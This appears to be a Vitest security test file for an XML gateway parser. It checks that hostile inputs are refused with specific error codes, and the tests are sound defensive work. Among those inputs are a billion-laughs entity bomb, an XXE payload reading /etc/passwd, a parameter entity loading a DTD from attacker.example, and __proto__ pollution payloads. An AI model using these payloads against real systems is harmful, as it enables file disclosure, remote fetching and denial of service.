// Security tests for parseXml on hostile partner XML: declarations, prototype names, depth, size, malformed input, namespaces, and values kept as strings.
import { describe, it, expect } from 'vitest';
import type { XmlContent } from '../../src/codec/document-tree.js';
import { parseXml } from '../../src/codec/xml-parse.js';
import { renderXml } from '../../src/codec/xml-render.js';
import { GatewayError, type ErrorCode } from '../../src/errors.js';

/** Runs `action`, expects a GatewayError with `code`, and returns it for further checks. */
function expectGatewayError(action: () => unknown, code: ErrorCode): GatewayError {
  let thrown: unknown;
  try {
    action();
  } catch (error) {
    thrown = error;
  }
  expect(thrown, `expected ${code}, but nothing was thrown`).toBeInstanceOf(GatewayError);
  expect((thrown as GatewayError).code).toBe(code);
  return thrown as GatewayError;
}

/** Nests `depth` elements named `a` around `inner`. */
function nested(depth: number, inner = 'x'): string {
  return '<a>'.repeat(depth) + inner + '</a>'.repeat(depth);
}

describe('parseXml refuses DOCTYPE and entity declarations', () => {
  it('refuses a plain DOCTYPE', () => {
    expectGatewayError(() => parseXml('<!DOCTYPE Declaration><Declaration>1</Declaration>'), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses a DOCTYPE after the XML declaration, in lower case and with whitespace after <!', () => {
    expectGatewayError(() => parseXml('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r SYSTEM "r.dtd"><r/>'), 'GW_ERR_XML_DOCTYPE');
    expectGatewayError(() => parseXml('<!doctype r><r/>'), 'GW_ERR_XML_DOCTYPE');
    expectGatewayError(() => parseXml('<! DOCTYPE r><r/>'), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses an internal entity declaration', () => {
    expectGatewayError(() => parseXml('<!DOCTYPE r [<!ENTITY who "attacker">]><r>&who;</r>'), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses billion laughs (returns the error rather than expanding)', () => {
    const entities = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [${entities.join('')}]><lolz>&lol9;</lolz>`;
    expectGatewayError(() => parseXml(bomb), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses one big entity referenced many times', () => {
    const xml = `<!DOCTYPE r [<!ENTITY big "${'A'.repeat(9000)}">]><r>${'&big;'.repeat(2000)}</r>`;
    expectGatewayError(() => parseXml(xml), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses an external entity (XXE) without reading the file', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>';
    const error = expectGatewayError(() => parseXml(xxe), 'GW_ERR_XML_DOCTYPE');
    expect(error.message).not.toContain('root:');
  });

  it('refuses a parameter entity', () => {
    const xml = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><r/>';
    expectGatewayError(() => parseXml(xml), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses an ENTITY declaration without a DOCTYPE around it', () => {
    expectGatewayError(() => parseXml('<!ENTITY x "y"><r>&x;</r>'), 'GW_ERR_XML_DOCTYPE');
  });

  it('refuses two DOCTYPE declarations', () => {
    expectGatewayError(() => parseXml('<!DOCTYPE r [<!ENTITY a "1">]><!DOCTYPE r [<!ENTITY a "2">]><r>&a;</r>'), 'GW_ERR_XML_DOCTYPE');
  });
});

describe('parseXml refuses names that would reach Object.prototype', () => {
  it('refuses a __proto__ element and leaves Object.prototype untouched', () => {
    expectGatewayError(() => parseXml('<r><__proto__><polluted>yes</polluted></__proto__></r>'), 'GW_ERR_XML_FORBIDDEN_NAME');
    expect((Object.prototype as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('refuses a constructor element', () => {
    expectGatewayError(() => parseXml('<r><constructor><prototype><polluted>yes</polluted></prototype></constructor></r>'), 'GW_ERR_XML_FORBIDDEN_NAME');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('refuses a prototype element', () => {
    expectGatewayError(() => parseXml('<r><prototype>1</prototype></r>'), 'GW_ERR_XML_FORBIDDEN_NAME');
  });

  it('keeps a __proto__ attribute as an own "@__proto__" key without polluting', () => {
    const parsed = parseXml('<r __proto__="polluted"><a __proto__="x">1</a></r>');
    const root = parsed['r'] as XmlContent;
    expect(Object.prototype.hasOwnProperty.call(root, '@__proto__')).toBe(true);
    expect(root['@__proto__']).toBe('polluted');
    expect(Object.getPrototypeOf(root)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});

describe('parseXml bounds depth and size', () => {
  it('refuses 10,000 levels of nesting with GW_ERR_XML_TOO_DEEP', () => {
    expectGatewayError(() => parseXml(nested(10_000)), 'GW_ERR_XML_TOO_DEEP');
  });

  it('refuses 200 levels by default and accepts 64 (the default limit)', () => {
    expectGatewayError(() => parseXml(nested(200)), 'GW_ERR_XML_TOO_DEEP');
    expect(() => parseXml(nested(64))).not.toThrow();
    expectGatewayError(() => parseXml(nested(65)), 'GW_ERR_XML_TOO_DEEP');
  });

  it('honours a smaller maxDepth', () => {
    expect(() => parseXml(nested(5), { maxDepth: 5 })).not.toThrow();
    expectGatewayError(() => parseXml(nested(6), { maxDepth: 5 }), 'GW_ERR_XML_TOO_DEEP');
  });

  it('refuses deep nesting hidden from the raw depth scan (end tags inside a comment or CDATA, "/>" inside attribute values)', () => {
    const closers = '</x>'.repeat(10_000);
    expectGatewayError(() => parseXml(`<r><!--${closers}-->${nested(10_000)}</r>`), 'GW_ERR_XML_TOO_DEEP');
    expectGatewayError(() => parseXml(`<r><![CDATA[${closers}]]>${nested(10_000)}</r>`), 'GW_ERR_XML_TOO_DEEP');
    expectGatewayError(() => parseXml('<a v="/>">'.repeat(10_000) + '</a>'.repeat(10_000)), 'GW_ERR_XML_TOO_DEEP');
  });

  it('refuses input over maxBytes with GW_ERR_XML_TOO_LARGE, counting bytes not characters', () => {
    const error = expectGatewayError(() => parseXml(`<r>${'x'.repeat(100)}</r>`, { maxBytes: 64 }), 'GW_ERR_XML_TOO_LARGE');
    expect(error.detail['maxBytes']).toBe(64);
    expect(error.httpStatus).toBe(413);
    // 30 Cyrillic letters are 30 characters but 60 bytes in UTF-8.
    const cyrillic = `<r>${'Ж'.repeat(30)}</r>`;
    expect(cyrillic.length).toBeLessThanOrEqual(64);
    expectGatewayError(() => parseXml(cyrillic, { maxBytes: 64 }), 'GW_ERR_XML_TOO_LARGE');
    expectGatewayError(() => parseXml(Buffer.from(cyrillic, 'utf8'), { maxBytes: 64 }), 'GW_ERR_XML_TOO_LARGE');
  });

  it('accepts input exactly at maxBytes', () => {
    const xml = '<r>abc</r>';
    expect(parseXml(xml, { maxBytes: Buffer.byteLength(xml) })).toEqual({ r: 'abc' });
  });

  it('refuses more than the default 4 MiB', () => {
    expectGatewayError(() => parseXml(Buffer.alloc(4 * 1024 * 1024 + 1, 0x20)), 'GW_ERR_XML_TOO_LARGE');
  });
});

describe('parseXml refuses malformed documents', () => {
  it('refuses mismatched end tags <r><a></r>', () => {
    expectGatewayError(() => parseXml('<r><a></r>'), 'GW_ERR_XML_MALFORMED');
  });

  it('refuses two root elements', () => {
    expectGatewayError(() => parseXml('<r>ok</r><r2/>'), 'GW_ERR_XML_MALFORMED');
    expectGatewayError(() => parseXml('<r>ok</r><r>again</r>'), 'GW_ERR_XML_MALFORMED');
  });

  it('refuses a duplicate attribute (last-wins would hide the first value)', () => {
    expectGatewayError(() => parseXml('<r amount="1" amount="1000000"/>'), 'GW_ERR_XML_MALFORMED');
  });

  it('refuses a boolean (value-less) attribute', () => {
    expectGatewayError(() => parseXml('<r checked/>'), 'GW_ERR_XML_MALFORMED');
  });

  it('refuses an unclosed root and an empty input', () => {
    expectGatewayError(() => parseXml('<r><a>1</a>'), 'GW_ERR_XML_MALFORMED');
    expectGatewayError(() => parseXml(''), 'GW_ERR_XML_MALFORMED');
  });
});

describe('parseXml checks the root namespace when asked', () => {
  const customs = 'urn:example:customs';

  it('refuses a root in a foreign namespace with the same local name', () => {
    expectGatewayError(() => parseXml('<c:Declaration xmlns:c="urn:evil"><c:Id>1</c:Id></c:Declaration>', { expectedNamespace: customs }), 'GW_ERR_XML_NAMESPACE');
    expectGatewayError(() => parseXml('<Declaration xmlns="urn:evil"/>', { expectedNamespace: customs }), 'GW_ERR_XML_NAMESPACE');
  });

  it('refuses a root in no namespace', () => {
    expectGatewayError(() => parseXml('<Declaration/>', { expectedNamespace: customs }), 'GW_ERR_XML_NAMESPACE');
  });

  it('refuses a prefixed root whose prefix is bound elsewhere even though the default namespace matches', () => {
    expectGatewayError(() => parseXml(`<c:Declaration xmlns="${customs}" xmlns:c="urn:evil"/>`, { expectedNamespace: customs }), 'GW_ERR_XML_NAMESPACE');
  });

  it('accepts the expected namespace, default or prefixed', () => {
    expect(parseXml(`<Declaration xmlns="${customs}"><Id>1</Id></Declaration>`, { expectedNamespace: customs })).toEqual({
      Declaration: { '@xmlns': customs, Id: '1' },
    });
    expect(parseXml(`<c:Declaration xmlns:c="${customs}"/>`, { expectedNamespace: customs })).toEqual({ 'c:Declaration': { '@xmlns:c': customs } });
  });
});

describe('parseXml values', () => {
  it('keeps values as strings: leading zeros, exponents, hex and booleans are not coerced', () => {
    expect(parseXml('<Hs>0012</Hs>')).toEqual({ Hs: '0012' });
    const parsed = parseXml('<r code="007" flag="true"><Amount>1e5</Amount><Id>0x1F</Id><Big>12345678901234567890</Big><Neg>-0</Neg></r>');
    expect(parsed).toEqual({ r: { '@code': '007', '@flag': 'true', Amount: '1e5', Id: '0x1F', Big: '12345678901234567890', Neg: '-0' } });
  });

  it('concatenates text around a comment instead of truncating it', () => {
    expect(parseXml('<r><Item>Wid<!---->gets</Item></r>')).toEqual({ r: { Item: 'Widgets' } });
    expect(parseXml('<r><Item>user@example.com<!-- x -->.evil.example</Item></r>')).toEqual({ r: { Item: 'user@example.com.evil.example' } });
  });

  it('decodes &#xD; &#xA; &#x9; in text and attributes', () => {
    expect(parseXml('<r a="x&#xA;y&#x9;z&#xD;">line&#xD;&#xA;next</r>')).toEqual({ r: { '@a': 'x\ny\tz\r', '#text': 'line\r\nnext' } });
  });

  it('decodes the predefined entities once, with no double decoding', () => {
    expect(parseXml('<r a="&quot;q&quot; &amp; &lt;">a &amp; b &lt; c &gt; d</r>')).toEqual({ r: { '@a': '"q" & <', '#text': 'a & b < c > d' } });
    expect(parseXml('<r>&amp;lt;script&amp;gt;</r>')).toEqual({ r: '&lt;script&gt;' });
  });

  it('decodes a character reference and raw UTF-8 to the same value', () => {
    expect(parseXml('<r>Caf&#233;</r>')).toEqual(parseXml(Buffer.from('<r>Café</r>', 'utf8')));
  });

  it('keeps whitespace inside values', () => {
    expect(parseXml('<r><a>  padded  </a></r>')).toEqual({ r: { a: '  padded  ' } });
  });

  it('returns arrays for repeated elements and for configured arrayPaths', () => {
    expect(parseXml('<r><Item>1</Item><Item>2</Item></r>')).toEqual({ r: { Item: ['1', '2'] } });
    expect(parseXml('<r><Item>1</Item></r>', { arrayPaths: new Set(['r.Item']) })).toEqual({ r: { Item: ['1'] } });
  });
});

describe('parseXml(renderXml(x)) round trip', () => {
  // Written in the shape renderXml emits canonically: namespace declarations only where a name uses them.
  const document: XmlContent = {
    'c:Declaration': {
      '@xmlns:c': 'urn:example:customs',
      '@ID': 'msg-1',
      '@note': 'line1\nline2\ttab & "quoted" <lt>',
      'c:Header': { 'c:Hs': '0012', 'c:Amount': '1e5', 'c:Empty': '' },
      'c:Item': [
        { '@seq': '1', '@xml:lang': 'ru', '#text': 'Товар a & b < c > d' },
        { '@seq': '2', '#text': 'carriage\r\nreturn' },
        { '@seq': '3', '#text': '  spaced  ' },
      ],
      Party: {
        '@xmlns': 'urn:example:party',
        '@xmlns:p': 'urn:example:attr',
        '@p:role': 'consignor',
        Name: 'Exporter GmbH',
        Address: { '@xmlns': '', Line: ['Street 1', 'City'] },
      },
    },
  };

  it('parses rendered bytes back to the same object', () => {
    const bytes = renderXml(document);
    expect(parseXml(bytes)).toEqual(document);
  });

  it('renders the parsed object back to the same bytes', () => {
    const bytes = renderXml(document);
    expect(renderXml(parseXml(bytes)).equals(bytes)).toBe(true);
  });

  it('keeps a namespace declaration on an element that uses it and checks it with expectedNamespace', () => {
    const bytes = renderXml(document);
    expect(() => parseXml(bytes, { expectedNamespace: 'urn:example:customs' })).not.toThrow();
    expectGatewayError(() => parseXml(bytes, { expectedNamespace: 'urn:example:party' }), 'GW_ERR_XML_NAMESPACE');
  });
});
